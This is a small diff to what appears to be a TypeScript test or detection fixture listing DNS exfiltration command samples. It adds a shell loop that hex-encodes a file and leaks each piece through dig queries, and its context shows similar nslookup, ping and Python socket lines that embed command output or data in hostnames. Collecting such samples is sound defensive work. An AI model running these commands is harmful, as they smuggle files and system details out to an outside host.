@@ -9,6 +9,7 @@ export const exfiltrationSamples: readonly RiskSamples[] = [
       line('output in a name, old quotes', `nslookup \`whoami\`.${host}`),
       line('output in a name that is pinged', `ping -c 1 "$(id | base64 | head -c 32).${host}"`),
       line('a loop', `xxd -p x | while read line; do dig $line.${host}; done`),
+      line('a loop over pieces', `for b in $(xxd -p x); do dig $b.${host}; done`),
       line('a variable', `dig +short "\${chunk}.${host}"`),
       line('Python', `socket.gethostbyname(f"{data}.${host}")`),
       line('Python, joined', `socket.gethostbyname(chunk.hex() + ".${host}")`),
